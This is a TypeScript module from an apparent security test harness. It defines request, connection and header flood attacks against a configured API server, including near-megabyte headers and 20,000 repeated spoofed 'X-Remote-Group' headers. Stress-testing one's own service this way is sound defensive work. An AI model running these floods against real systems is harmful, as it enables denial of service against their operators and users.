/** More of everything than one client needs. */
import { Agent, request } from 'node:https';
import { type Attack, type AttackContext, Findings } from '../attack.ts';
import { ATTACKED } from '../site.ts';
import { openTcp, openTls } from '../wire.ts';

const LANES = 64;
const CONNECTIONS = 300;
const HEADER_BYTES = 900 * 1024;

export const requestFlood: Attack = {
  name: 'request flood',
  summary: 'lists and large writes of one user on 64 connections, as fast as they are answered',
  run: (context) => flood(context, (at) => (at % 2 === 0 ? 'GET' : 'POST')),
};

async function flood(
  { site, hasTime }: AttackContext,
  methodOf: (at: number) => string,
): Promise<{ sent: number; findings: string[] }> {
  const agent = new Agent({ keepAlive: true, ca: site.ca, ...site.attacker });
  const path = site.resource.path.replace('{ns}', ATTACKED);
  const body = JSON.stringify(site.resource.body('flood', 100_000));
  const findings = new Findings();
  let sent = 0;
  const lane = async (): Promise<void> => {
    while (hasTime()) {
      const method = methodOf(sent);
      sent += 1;
      const outcome = await once(agent, {
        url: `${site.url}${path}${method === 'GET' ? '' : '?dryRun=All'}`,
        method,
        body: method === 'GET' ? '' : body,
      });
      if (outcome === 500) findings.add(`a ${method} was answered with ${outcome}`);
    }
  };
  await Promise.all(Array.from({ length: LANES }, lane));
  agent.destroy();
  return { sent, findings: findings.lines };
}

/** The status, or 0 when there is no response: floods may be refused. */
function once(
  agent: Agent,
  { url, method, body }: { url: string; method: string; body: string },
): Promise<number> {
  return new Promise((resolve) => {
    const headers = { 'content-type': 'application/json', 'content-length': body.length };
    const outgoing = request(url, { agent, method, headers, timeout: 10_000 }, (response) => {
      response.resume();
      response.on('close', () => resolve(response.statusCode ?? 0));
      response.on('error', () => resolve(0));
    });
    outgoing.on('timeout', () => outgoing.destroy());
    outgoing.on('error', () => resolve(0));
    outgoing.end(body);
  });
}

export const connectionFlood: Attack = {
  name: 'connection flood',
  summary: 'connections without TLS and without a request, opened and left, by nobody',
  async run({ site, hasTime }) {
    let sent = 0;
    while (hasTime()) {
      const plain = Array.from({ length: CONNECTIONS / 2 }, () => openTcp(site));
      const secure = Array.from({ length: CONNECTIONS / 6 }, () => openTls(site));
      const opened = await Promise.allSettled([...plain, ...secure]);
      sent += opened.length;
      for (const one of opened) if (one.status === 'fulfilled') one.value.destroy();
    }
    return { sent, findings: [] };
  },
};

export const headerFlood: Attack = {
  name: 'header flood',
  summary: 'heads of nearly a megabyte and of thousands of lines, by nobody and by a user',
  async run({ site, hasTime }) {
    let sent = 0;
    while (hasTime()) {
      const sockets = await Promise.allSettled([openTls(site), openTls(site, { asUser: true })]);
      for (const [at, one] of sockets.entries()) {
        if (one.status === 'rejected') continue;
        const line =
          at === 0
            ? `X-A: ${'a'.repeat(HEADER_BYTES)}\r\n`
            : 'X-Remote-Group: a\r\n'.repeat(20_000);
        await new Promise((resolve) => {
          one.value.on('data', resolve).on('close', resolve);
          one.value.write(`GET /livez HTTP/1.1\r\nHost: a\r\n${line}\r\n`);
        });
        one.value.destroy();
        sent += 1;
      }
    }
    return { sent, findings: [] };
  },
};
